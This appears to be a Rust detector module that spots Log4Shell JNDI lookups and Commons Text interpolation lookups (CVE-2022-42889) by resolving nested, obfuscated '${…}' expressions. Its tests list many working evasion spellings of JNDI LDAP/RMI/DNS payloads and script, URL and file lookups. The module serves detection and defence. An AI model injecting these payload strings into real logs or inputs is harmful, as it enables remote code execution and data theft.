//! Lookups of loggers and configuration (`${…}`), put together as their reader would.
//!
//! `${${lower:j}ndi:…}` and `${${::-j}${env:X:-n}di:…}` are `${jndi:…}` once the inner ones are resolved; there are as many
//! spellings as names of variables that nobody has set. So they are resolved from the inside out, as Log4j does: a
//! default stands for what is unknown, case and date formats give their text.

use std::ops::Range;

use base64::Engine as _;

use super::{Family, Found, Look};

/// See the module.
pub(super) const FAMILY: Family = Family { name: "lookup", kinds: &["jndi", "interpolated"], look };

/// Deeper lookups are read as text.
const MAX_DEPTH: usize = 32;
/// A lookup's content beyond it is dropped: what decides stands at its beginning.
const MAX_CONTENT: usize = 4096;

/// How far into a lookup its kind is looked for, and what it asks for.
const HEAD: usize = 16;
const ASKED: usize = 256;

/// How many bytes either side of a lookup may be part of the word that it completes.
const ROUND: usize = 16;

/// A lookup that is not closed yet: where it begins, and its content so far with inner ones resolved.
struct Lookup {
    start: usize,
    content: String,
}

fn look(look: &Look<'_>, found: &mut Found<'_>) {
    if !(look.signs.has(b'$') && look.signs.has(b'{')) {
        return;
    }
    let Some(first) = memchr::memmem::find(look.view.as_bytes(), b"${") else { return };
    if let Some(range) = jndi(look.view, first) {
        found(0, range);
    }
    if let Some(range) = interpolated(look.view, first) {
        found(1, range);
    }
}

/// The first lookup, from byte `first` on, that is one of JNDI when resolved.
fn jndi(text: &str, first: usize) -> Option<Range<usize>> {
    let mut open: Vec<Lookup> = Vec::new();
    // What the lookups leave of the text, with a little of what stands round them.
    let mut left = String::new();
    append(&mut left, tail(text.get(..first).unwrap_or_default()));
    let mut at = first;
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
        if rest.starts_with("${") && open.len() < MAX_DEPTH {
            open.push(Lookup { start: at, content: String::new() });
            at = at.saturating_add(2);
            continue;
        }
        let Some(lookup) = open.last_mut() else {
            let between = memchr::memmem::find(rest.as_bytes(), b"${").unwrap_or(rest.len());
            let words = rest.get(..between).unwrap_or_default();
            append(&mut left, words.get(..words.floor_char_boundary(ROUND)).unwrap_or_default());
            if words.len() > ROUND {
                append(&mut left, "\n");
                append(&mut left, tail(words));
            }
            at = at.saturating_add(between);
            continue;
        };
        if rest.starts_with('}') {
            at = at.saturating_add(1);
            let Some(lookup) = open.pop() else { continue };
            if is_jndi(&lookup.content) {
                return Some(lookup.start..at);
            }
            let value = resolve(&lookup.content);
            if let Some(outer) = open.last_mut() {
                append(&mut outer.content, &value);
            } else {
                if value.contains("${") && is_jndi(value.split("${").nth(1).unwrap_or_default()) {
                    return Some(lookup.start..at);
                }
                append(&mut left, &value);
            }
            continue;
        }
        // Up to the next brace, or the `$` before one; at least one character.
        let step =
            rest.char_indices().skip(1).find(|(_, c)| matches!(c, '$' | '}')).map_or(rest.len(), |(next, _)| next);
        append(&mut lookup.content, rest.get(..step).unwrap_or_default());
        at = at.saturating_add(step);
    }
    // A part of a lookup that another field begins.
    let made = |text: &str| {
        memchr::memchr2(b'j', b'J', text.as_bytes()).is_some()
            && memchr::memmem::find(text.to_ascii_lowercase().as_bytes(), b"jndi:").is_some()
    };
    if made(&left) && !made(text) {
        return Some(first..text.len());
    }
    // Cut off before its end; loggers that cut lines resolve what is left elsewhere.
    open.iter().find(|lookup| is_jndi(&lookup.content)).map(|lookup| lookup.start..text.len())
}

/// The first lookup by which Commons Text runs a script, asks for an address or a name, or reads a file (CVE-2022-42889).
fn interpolated(text: &str, first: usize) -> Option<Range<usize>> {
    memchr::memmem::find_iter(text.as_bytes().get(first..)?, b"${").find_map(|at| {
        let start = first.saturating_add(at);
        let inside = text.get(start.saturating_add(2)..)?.trim_start();
        let colon = inside.bytes().take(HEAD).position(|byte| byte == b':')?;
        let (kind, rest) = (inside.get(..colon)?, inside.get(colon.saturating_add(1)..)?);
        let argument = rest.get(..rest.floor_char_boundary(ASKED)).unwrap_or("");
        let argument = argument.split('}').next().unwrap_or("").trim_start();
        let asks = match kind.trim_end().to_ascii_lowercase().as_str() {
            "script" => argument.contains(':'),
            "dns" => {
                argument.starts_with("address|")
                    || argument.starts_with("name|")
                    || argument.starts_with("canonical-name|")
            }
            "url" | "file" | "xml" | "properties" => argument.split_once(':').is_some_and(|(charset, place)| {
                charset.len() <= 12
                    && !charset.contains('/')
                    && place.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '/' | '.'))
                    && (kind.eq_ignore_ascii_case("url") && place.contains(':')
                        || charset.to_ascii_lowercase().starts_with("utf"))
            }),
            _ => false,
        };
        asks.then(|| start..text.len().min(start.saturating_add(2).saturating_add(rest.len())))
    })
}

/// The last bytes of a text between lookups.
fn tail(words: &str) -> &str {
    words.get(words.ceil_char_boundary(words.len().saturating_sub(ROUND))..).unwrap_or_default()
}

fn append(content: &mut String, more: &str) {
    let room = MAX_CONTENT.saturating_sub(content.len());
    content.push_str(more.get(..more.floor_char_boundary(room)).unwrap_or_default());
}

/// Whether a lookup with this content is one of JNDI, or hides the end of one.
fn is_jndi(content: &str) -> bool {
    if !content.trim_start().starts_with(['j', 'J']) {
        return false;
    }
    let mut name =
        content.chars().filter(|c| !c.is_whitespace()).flat_map(char::to_lowercase).take(16).collect::<String>();
    // Unicode has letters whose capitals are I and K.
    name = name.replace('ı', "i").replace('\u{212a}', "k");
    name.strip_prefix("jndi").is_some_and(|rest| rest.starts_with(':') || rest.starts_with("%3a"))
}

/// What a reader puts in the place of a lookup.
fn resolve(content: &str) -> String {
    if let Some((_, default)) = content.split_once(":-") {
        return default.to_owned();
    }
    let (kind, argument) = content.split_once(':').unwrap_or((content, ""));
    match kind.trim().to_ascii_lowercase().as_str() {
        "lower" => argument.to_lowercase(),
        "upper" => argument.to_uppercase(),
        // Quoted letters of a date format stand for themselves.
        "date" => argument.replace('\'', ""),
        "base64" => base64::engine::general_purpose::STANDARD
            .decode(argument.trim())
            .ok()
            .and_then(|bytes| String::from_utf8(bytes).ok())
            .unwrap_or_default(),
        _ => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn finds(text: &str) -> bool {
        memchr::memmem::find(text.as_bytes(), b"${").and_then(|first| jndi(text, first)).is_some()
    }

    #[test]
    fn lookups_are_put_together() {
        for text in [
            "${jndi:ldap://x.example.org/a}",
            "a ${ jndi : rmi://x.example.org/a",
            "${${lower:j}${upper:n}d${lower:I}:ldap://x.example.org/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x.example.org}",
            "${${env:NOBODY_SET_THIS:-j}ndi${sys:x:-:}dns://x.example.org}",
            "${${lower:${upper:${lower:jndi}}}:x}",
            "${${date:'j'}${date:'ndi'}:ldap://x}",
            "${${base64:am5kaTpsZGFwOi8veA==}}",
            "${jnd${upper:ı}:ldap://x}",
            "${x:-${jndi:dns://x}}",
            "j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://x",
            "${env:x} and ${ctx:y} and ${jNdI:ldap://x}",
        ] {
            assert!(finds(text), "{text}");
        }
    }

    #[test]
    fn lookups_that_run_or_ask_are_found() {
        for text in [
            "${script:javascript:1+1}",
            "${dns:address|x.example}",
            "${url:UTF-8:http://x.example/}",
            "a ${file:UTF-8:/srv/x}",
        ] {
            assert!(interpolated(text, 0).is_some(), "{text}");
        }
        for text in [
            "${file:-x}",
            "${script}",
            "${url:-http://x.example}",
            "${dns:server}",
            "${file(./a.yml):x}",
            "${self:custom.x}",
        ] {
            assert!(interpolated(text, 0).is_none(), "{text}");
        }
    }

    #[test]
    fn variables_are_let_be() {
        for text in [
            "${HOME:-/root}/bin",
            "${a:-${b:-c}}",
            "image: ${REGISTRY:-docker.io}/app:${TAG:-latest}",
            "${java.home}",
            "jndi:ldap://x is what it looks for",
            "`${a}${b}`",
            "${lower:JDBC}",
            "$${ } ${",
        ] {
            assert!(!finds(text), "{text}");
        }
    }

    #[test]
    fn padding_hides_nothing() {
        let text = format!("{}${{script:javascript:7*7}}", "${HOME}/bin:".repeat(5_000));
        assert!(interpolated(&text, 0).is_some());
    }

    #[test]
    fn hostile_nesting_is_bounded() {
        for piece in ["${", "${lower:", "${url:", "${script:x", "${a:-", "${}", "$", "}", "${x", "${${::-j}"] {
            let text = piece.repeat((1 << 20) / piece.len());
            let begun = std::time::Instant::now();
            finds(&text);
            finds(&format!("{text}{}", "}".repeat(1 << 18)));
            assert!(begun.elapsed().as_secs() < 5, "{piece:?} took {:?}", begun.elapsed());
        }
    }

    proptest! {
        #[test]
        fn any_text_is_read(parts in proptest::collection::vec(prop_oneof![
            Just("${"), Just("}"), Just(":-"), Just("lower:"), Just("upper:"), Just("base64:"), Just("date:"), Just("j"), Just("ndi"), Just("é"), Just("$"),
        ], 0..80)) {
            finds(&parts.concat());
        }
    }
}
